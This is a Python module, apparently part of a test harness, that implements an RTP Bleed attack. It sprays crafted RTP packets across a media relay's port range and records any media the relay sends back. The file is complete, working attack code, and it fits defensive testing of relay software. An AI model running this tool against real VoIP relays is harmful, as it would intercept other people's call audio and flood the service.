# SPDX-License-Identifier: BSD-3-Clause
"""An RTP Bleed attacker: spray every relay port with RTP and listen for media.

    python3 -m sltest.spray --bind 198.18.1.66 --sockets 4 --dst 198.18.1.1 \\
        --ports 30000-31999 --seconds 2 [--pps 0] [--max 2000000] [--listen 1.0]

Run it inside the attacker's netns.  `--sockets` UDP sockets are bound to
the attacker address (ephemeral ports); round-robin over them it sends
valid-looking RTP (v2, PT 0, 160-byte payload 'SLX1' + filler) to every
port of the range on `--dst`, as fast as it can (or at `--pps`) with
sendmmsg, for `--seconds` (<= 30) and at most `--max` packets.  Whatever
arrives on its sockets meanwhile and for `--listen` s afterwards is counted
with its source: that is media the relay sent to the attacker.  Prints one
JSON line: sent, seconds, pps, received, srcs {ip:port: count}, rounds
(complete passes over the range).
"""

import argparse
import ctypes
import errno
import json
import select
import socket
import struct
import sys
import time

from sltest import mmsg

MAX_COUNT = 5_000_000
MAX_SECONDS = 30.0
BATCH = 64


PAYLOAD = b'SLX1' + bytes((i * 11 + 5) & 0xff for i in range(156))


def spray(bind, n_socks, dst, ports, seconds, pps, max_count, listen):
    seconds = min(seconds, MAX_SECONDS)
    max_count = min(max_count, MAX_COUNT)
    socks = []
    for _ in range(n_socks):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        s.bind((bind, 0))
        s.setblocking(False)
        socks.append(s)
    names = []
    for p in ports:
        names.append(mmsg.sockaddr_in(dst, p))
    bufs = [ctypes.create_string_buffer(12 + len(PAYLOAD)) for _ in range(BATCH)]
    iovs = (mmsg.Iovec * BATCH)()
    msgs = (mmsg.Mmsghdr * BATCH)()
    for i in range(BATCH):
        ctypes.memmove(ctypes.addressof(bufs[i]) + 12, PAYLOAD, len(PAYLOAD))
        iovs[i].iov_base = ctypes.addressof(bufs[i])
        iovs[i].iov_len = 12 + len(PAYLOAD)
        msgs[i].msg_hdr.msg_iov = ctypes.pointer(iovs[i])
        msgs[i].msg_hdr.msg_iovlen = 1
        msgs[i].msg_hdr.msg_namelen = ctypes.sizeof(mmsg.SockaddrIn)
    hdr = struct.Struct('!BBHII')
    srcs = {}
    received = 0

    def drain():
        nonlocal received
        for s in socks:
            for _ in range(1000):
                try:
                    _data, src = s.recvfrom(2048)
                except (BlockingIOError, ConnectionRefusedError):
                    break
                received += 1
                k = '%s:%d' % src[:2]
                srcs[k] = srcs.get(k, 0) + 1

    sent = 0
    pos = 0
    k = 0
    t0 = time.monotonic()
    deadline = t0 + seconds
    while sent < max_count and time.monotonic() < deadline:
        if pps:
            due = t0 + sent / float(pps)
            if due > time.monotonic():
                time.sleep(due - time.monotonic())
        n = min(BATCH, max_count - sent)
        for i in range(n):
            idx = (pos + i) % len(names)
            msgs[i].msg_hdr.msg_name = ctypes.addressof(names[idx])
            hdr.pack_into(bufs[i], 0, 0x80, 0, (sent + i) & 0xffff, (sent + i) * 160 & 0xffffffff,
                          0x5ec0ffee)
        fd = socks[k % n_socks].fileno()
        k += 1
        r = mmsg.libc.sendmmsg(fd, ctypes.addressof(msgs), n, 0)
        if r < 0:
            e = ctypes.get_errno()
            if e not in (errno.EAGAIN, errno.ENOBUFS, errno.EINTR, errno.ECONNREFUSED):
                raise OSError(e, 'sendmmsg')
            time.sleep(0.0002)
            r = 0
        sent += r
        pos = (pos + r) % len(names)
        if k % 16 == 0:
            drain()
    elapsed = time.monotonic() - t0
    end = time.monotonic() + min(listen, 10.0)
    while time.monotonic() < end:
        select.select(socks, [], [], max(0.0, min(0.05, end - time.monotonic())))
        drain()
    for s in socks:
        s.close()
    return {'sent': sent, 'seconds': round(elapsed, 3),
            'pps': round(sent / elapsed) if elapsed > 0 else 0, 'received': received,
            'srcs': srcs, 'rounds': sent // max(1, len(names))}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('--bind', required=True)
    ap.add_argument('--sockets', type=int, default=4)
    ap.add_argument('--dst', required=True)
    ap.add_argument('--ports', required=True, help='LO-HI')
    ap.add_argument('--seconds', type=float, default=2.0)
    ap.add_argument('--pps', type=int, default=0, help='0: as fast as possible')
    ap.add_argument('--max', type=int, default=2_000_000)
    ap.add_argument('--listen', type=float, default=1.0)
    a = ap.parse_args(argv)
    lo, _, hi = a.ports.partition('-')
    ports = list(range(int(lo), int(hi or lo) + 1))
    res = spray(a.bind, max(1, min(a.sockets, 64)), a.dst, ports, a.seconds, a.pps, a.max,
                a.listen)
    print(json.dumps(res), flush=True)
    return 0


if __name__ == '__main__':
    sys.exit(main())
